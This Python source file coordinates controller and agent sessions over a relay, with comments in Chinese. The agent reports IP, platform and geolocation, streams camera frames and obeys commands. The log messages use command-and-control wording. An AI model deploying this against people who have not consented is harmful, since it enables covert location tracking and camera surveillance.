"""
Session 協調

ControllerSession：產生 session id 與分享連結，接收遙測與影像、下達指令。
AgentSession：解析分享連結，回報遙測、執行指令、必要時串流影像。
兩者各自持有自己的 RelayClient 實例，並在 close() 時負責收尾。
"""

import asyncio
import logging
import time
from collections.abc import Callable
from typing import Any

from session_relay.base.data_structures import Channel, CommandType, DeliveryClass
from session_relay.capabilities.camera import CameraCapability
from session_relay.capabilities.effects import EffectBackend, EffectCapabilities, LoggingEffects
from session_relay.config import RelayConfig
from session_relay.diagnostics import Diagnostics
from session_relay.dispatcher import CommandDispatcher, build_agent_registry, make_command
from session_relay.locator import Locator, build_locator, new_session_id, parse_locator
from session_relay.media import MediaSource
from session_relay.relay.client import RelayClient
from session_relay.schemas import StreamFrame, TelemetryPayload
from session_relay.streaming import StreamingLoop
from session_relay.telemetry import TelemetryCollector

logger = logging.getLogger(__name__)

DEFAULT_BASE_URL = "http://localhost:3000/"


# ═══════════════════════════════════════════════════════════════════════════════
# Controller
# ═══════════════════════════════════════════════════════════════════════════════
class ControllerSession:
    """
    控制端 Session

    只訂閱 data 與 stream 子頻道；每個 session 最多保留一份最新遙測快照。
    """

    def __init__(
        self,
        config: RelayConfig | None = None,
        *,
        base_url: str = DEFAULT_BASE_URL,
        reduced: bool = False,
        session_id: str | None = None,
        relay: RelayClient | None = None,
        on_telemetry: Callable[[TelemetryPayload], Any] | None = None,
        on_frame: Callable[[StreamFrame], Any] | None = None,
    ) -> None:
        self._config = config or RelayConfig.from_env()
        self.session_id = session_id or new_session_id()
        self.locator = build_locator(base_url, self.session_id, reduced)
        self._relay = relay or RelayClient(self._config)
        self._on_telemetry = on_telemetry
        self._on_frame = on_frame

        self.last_payload: TelemetryPayload | None = None
        self.last_frame: StreamFrame | None = None
        self._last_frame_at: float | None = None
        self._camera_requested_at: float | None = None

    @property
    def is_connected(self) -> bool:
        return self._relay.is_connected

    @property
    def relay(self) -> RelayClient:
        return self._relay

    @property
    def camera_requested(self) -> bool:
        return self._camera_requested_at is not None

    async def start(self) -> None:
        """建立中繼連線"""
        logger.info(f"🚀 Controller 啟動: session {self.session_id}")
        self._relay.connect(
            self.session_id,
            self._handle_connected,
            on_telemetry=self._handle_telemetry,
            on_frame=self._handle_frame,
        )

    async def close(self) -> None:
        await self._relay.disconnect()

    def _handle_connected(self) -> None:
        logger.info("🟢 C2_SERVER_ONLINE: 等待 agent 連線")

    def _handle_telemetry(self, payload: TelemetryPayload) -> Any:
        self.last_payload = payload
        logger.info(f"✅ UPLINK_SUCCESS: {payload.ip} ({payload.platform})")
        if payload.coords:
            logger.info(f"📍 GEOLOCATION_FIXED: {payload.coords.latitude}, {payload.coords.longitude}")
        if self._on_telemetry is not None:
            return self._on_telemetry(payload)
        return None

    def _handle_frame(self, frame: StreamFrame) -> Any:
        if self._camera_requested_at is None:
            logger.debug("相機未要求啟用，忽略影像幀")
            return None
        self.last_frame = frame
        self._last_frame_at = time.monotonic()
        if self._on_frame is not None:
            return self._on_frame(frame)
        return None

    def clear_payload(self) -> None:
        """清除目前保留的遙測快照"""
        self.last_payload = None

    def is_stream_stalled(self, now: float | None = None) -> bool:
        """
        相機已要求啟用，但超過 stream_stall_seconds 沒有收到影像

        只做回報，不會自動重送指令。
        """
        if self._camera_requested_at is None:
            return False
        now = time.monotonic() if now is None else now
        reference = self._camera_requested_at
        if self._last_frame_at is not None and self._last_frame_at > reference:
            reference = self._last_frame_at
        return now - reference > self._config.stream_stall_seconds

    # ═══════════════════════════════════════════════════════════════════════════════
    # 指令
    # ═══════════════════════════════════════════════════════════════════════════════

    async def send_command(self, command_type: CommandType | str, payload: dict[str, Any] | None = None) -> bool:
        """發送指令到 agent；長連線尚未建立時由中繼改走臨時連線"""
        command = make_command(command_type, payload)
        if not self.is_connected:
            logger.warning(f"⚠️ 中繼尚未連線，{command.type} 將以臨時連線送出")
        ok = await self._relay.publish(self.session_id, Channel.CMD, command)
        if ok:
            logger.info(f"📤 EXEC_PROTOCOL: {command.type}")
        else:
            logger.warning(f"❌ 指令送出失敗: {command.type}")
        return ok

    async def activate_camera(self) -> bool:
        self._camera_requested_at = time.monotonic()
        return await self.send_command(CommandType.ACTIVATE_CAMERA)

    async def stop_camera(self) -> bool:
        self._camera_requested_at = None
        self._last_frame_at = None
        self.last_frame = None
        return await self.send_command(CommandType.STOP_CAMERA)

    async def speak(self, text: str, lang: str | None = None) -> bool:
        payload: dict[str, Any] = {"text": text}
        if lang:
            payload["lang"] = lang
        return await self.send_command(CommandType.SPEAK, payload)

    async def vibrate(self, pattern: list[int] | None = None) -> bool:
        return await self.send_command(CommandType.VIBRATE, {"pattern": pattern} if pattern else None)

    async def play_audio(self, url: str) -> bool:
        return await self.send_command(CommandType.PLAY_AUDIO, {"url": url})

    async def glitch(self, duration_ms: int | None = None) -> bool:
        return await self.send_command(CommandType.GLITCH, {"duration_ms": duration_ms} if duration_ms else None)


# ═══════════════════════════════════════════════════════════════════════════════
# Agent
# ═══════════════════════════════════════════════════════════════════════════════
class AgentSession:
    """
    代理端 Session

    建構時即解析分享連結，無效連結直接拋出 LocatorError，不會發起任何連線。
    只訂閱 cmd 子頻道；遙測與連線握手同時進行，完成後發布一次。
    """

    def __init__(
        self,
        locator: str | Locator,
        config: RelayConfig | None = None,
        *,
        media_source: MediaSource,
        effects: EffectBackend | None = None,
        collector: TelemetryCollector | None = None,
        relay: RelayClient | None = None,
        diagnostics: Diagnostics | None = None,
    ) -> None:
        self.locator = parse_locator(locator) if isinstance(locator, str) else locator
        self._config = config or RelayConfig.from_env()
        self.diagnostics = diagnostics or Diagnostics()
        self._relay = relay or RelayClient(self._config, diagnostics=self.diagnostics)
        self._collector = collector or TelemetryCollector(self._config)

        self.streaming = StreamingLoop(
            media_source,
            self._publish_frame,
            fps=self._config.stream_fps,
            max_width=self._config.frame_max_width,
            quality=self._config.frame_quality,
            max_bytes=self._config.frame_max_bytes,
            diagnostics=self.diagnostics,
        )
        self.camera = CameraCapability(self.streaming, self.diagnostics)
        self.effects = effects or LoggingEffects()
        registry = build_agent_registry(self.camera, EffectCapabilities(self.effects))
        self.dispatcher = CommandDispatcher(registry, self.diagnostics)

        self.telemetry: TelemetryPayload | None = None
        self._telemetry_task: asyncio.Task | None = None

    @property
    def session_id(self) -> str:
        return self.locator.session_id

    @property
    def relay(self) -> RelayClient:
        return self._relay

    async def start(self) -> None:
        """建立中繼連線並開始蒐集遙測"""
        logger.info(f"🚀 Agent 啟動: session {self.session_id[:6]}...（精簡模式: {self.locator.reduced}）")
        self._relay.connect(self.session_id, self._handle_connected, on_command=self.dispatcher.dispatch)
        if self._telemetry_task is None:
            self._telemetry_task = asyncio.create_task(self._report_telemetry(), name="agent-telemetry")

    async def wait_reported(self) -> bool:
        """等待遙測發布完成，回傳 broker 是否接受"""
        if self._telemetry_task is None:
            return False
        return await self._telemetry_task

    async def close(self) -> None:
        """取消遙測、關閉中繼並停止相機"""
        task, self._telemetry_task = self._telemetry_task, None
        if task is not None and not task.done():
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)
        # 先關中繼：連同取消尚未執行完的指令，之後不會再有相機開啟
        await self._relay.disconnect()
        await self.camera.deactivate()
        logger.info("🛑 Agent 已停止")

    def _handle_connected(self) -> None:
        logger.info(f"🟢 UPLINK_ESTABLISHED: {self.session_id[:6]}...")

    async def _report_telemetry(self) -> bool:
        self.telemetry = await self._collector.collect(self.locator.reduced)
        ok = await self._relay.publish(self.session_id, Channel.DATA, self.telemetry)
        if ok:
            logger.info("📤 遙測已送出")
        else:
            logger.warning("❌ 遙測送出失敗")
        return ok

    async def _publish_frame(self, frame: StreamFrame) -> bool:
        return await self._relay.publish(
            self.session_id,
            Channel.STREAM,
            frame,
            DeliveryClass.BEST_EFFORT,
            fallback=False,
        )
